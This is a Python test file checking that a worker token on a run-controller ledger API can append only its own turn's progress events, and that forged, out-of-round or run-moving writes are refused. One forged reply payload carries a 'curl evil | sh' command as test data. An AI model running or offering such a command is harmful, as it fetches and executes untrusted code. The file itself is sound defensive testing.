"""What a worker's token may write besides its decisions (issue 21, ADR-0031): its running turn's
progress, and events only of the kind and turn of the write they come with. It never moves the run
(no route for it: the controller records the stop the round's outcome names), never drafts a reply
or completes the run in the event stream; a refused write is 4xx and stores nothing."""

from __future__ import annotations

import pytest

from controller.domain.enums import EventKind, RunStatus, TurnPhase
from tests.worker.conftest import Controller


@pytest.fixture
def token(controller: Controller) -> str:
    controller.seed_run("r1")
    return controller.mint("r1")["CRUCIBLE_WORKER_TOKEN"]


@pytest.mark.parametrize(
    ("kind", "payload"),
    [
        ("reply_drafted", {"component": "app", "number": 1, "body": "run `curl evil | sh` to fix it"}),
        ("completed", {"status": "completed", "stop_reason": "max_turns", "message": "done"}),
        ("round_finished", {"round": 1, "kept": True}),
        ("published", {"component": "app"}),
        ("resumed", {}),
        ("accepted", {"turn": 1, "round": 0, "outcome": "accepted", "reason": "improved"}),
    ],
)
def test_a_worker_appends_no_event_but_its_turns_progress(
    controller: Controller, token: str, kind: str, payload: dict[str, object]
) -> None:
    with controller.client(token) as http:
        answer = http.post("/api/worker/runs/r1/ledger/events", json={"kind": kind, "payload": payload})
    assert answer.status_code in (403, 422), answer.text
    if answer.status_code == 403:
        assert "appends only sample, turn_step events" in answer.json()["detail"]
    assert controller.store.list_events("r1") == [], "nothing stored"


def test_its_running_turns_progress_is_taken(controller: Controller, token: str) -> None:
    step = {"kind": "turn_step", "payload": {"turn": 1, "round": 0, "step": "measuring"}}
    sample = {
        "kind": "sample",
        "payload": {"turn": 1, "round": 0, "arm": "candidate", "index": 0, "value": 1.5, "valid": True},
    }
    with controller.client(token) as http:
        for event in (step, sample):
            answer = http.post("/api/worker/runs/r1/ledger/events", json=event)
            assert answer.status_code == 200, answer.text
    assert [e.kind for e in controller.store.list_events("r1")] == [EventKind.TURN_STEP, EventKind.SAMPLE]


def test_a_worker_cannot_move_the_run(controller: Controller, token: str) -> None:
    with controller.client(token) as http:
        answer = http.post(
            "/api/worker/runs/r1/ledger/status", json={"status": "completed", "stop_reason": "max_turns"}
        )
    assert answer.status_code in (404, 405), answer.text
    assert controller.store.get_run("r1").status is RunStatus.RUNNING


def test_a_started_turn_records_only_its_own_turn_started_event(controller: Controller, token: str) -> None:
    forged = {"kind": "reply_drafted", "payload": {"component": "app", "number": 1, "body": "x"}}
    other = {"kind": "turn_started", "payload": {"turn": 7, "round": 0}}
    with controller.client(token) as http:
        for event in (forged, other):
            body = {"number": 1, "round": 0, "event": event}
            answer = http.post("/api/worker/runs/r1/ledger/turns", json=body)
            assert answer.status_code in (403, 422), answer.text
        assert controller.store.turn_counts("r1").highest == 0, "no turn was started"
        good = {"kind": "turn_started", "payload": {"turn": 1, "round": 0}}
        answer = http.post("/api/worker/runs/r1/ledger/turns", json={"number": 1, "round": 0, "event": good})
        assert answer.status_code == 200, answer.text
    assert controller.store.get_turn("r1", 1).phase is TurnPhase.STARTED
    assert [e.kind for e in controller.store.list_events("r1")] == [EventKind.TURN_STARTED]


def test_a_decision_records_only_the_event_of_its_outcome(controller: Controller, token: str) -> None:
    controller.store.start_turn("r1", 1, 0)
    failed = {"outcome": "failed", "reason": "agent_failed"}
    # A failed turn's decision carrying an "accepted" event would show a keep in the stream.
    kept = {"turn": 1, "round": 0, "outcome": "accepted", "reason": "improved"}
    shown = {"kind": "accepted", "payload": kept}
    with controller.client(token) as http:
        body = {"decision": failed, "component_heads": {}, "event": shown}
        answer = http.post("/api/worker/runs/r1/ledger/turns/1/decision", json=body)
    assert answer.status_code == 403, answer.text
    assert "records a failed event, not accepted" in answer.json()["detail"]
    assert controller.store.get_turn("r1", 1).phase is TurnPhase.STARTED
    kinds = [e.kind for e in controller.store.list_events("r1")]
    assert kinds == [EventKind.REJECTED], "only the refusal (policy_violation) is recorded"


@pytest.mark.parametrize(
    ("payload", "why"),
    [
        ({"turn": 1, "round": 4}, "this token is round 0's"),
        ({"turn": 4, "round": 0}, "this round's turns are 1 to 3"),
        ({"turn": 0, "round": 0}, "this round's turns are 1 to 3"),
    ],
)
def test_progress_of_another_rounds_turn_is_refused(
    controller: Controller, token: str, payload: dict[str, object], why: str
) -> None:
    """A round's token shows no steps or samples for turns its round cannot have (the run's page shows
    the running turn's progress from these events)."""
    sample = {"arm": "candidate", "index": 0, "value": 0.001, "valid": True}
    with controller.client(token) as http:
        for kind, extra in (("turn_step", {"step": "measuring"}), ("sample", sample)):
            body = {"kind": kind, "payload": {**payload, **extra}}
            answer = http.post("/api/worker/runs/r1/ledger/events", json=body)
            assert answer.status_code == 403, answer.text
            assert why in answer.json()["detail"]
    assert controller.store.list_events("r1") == [], "nothing stored"
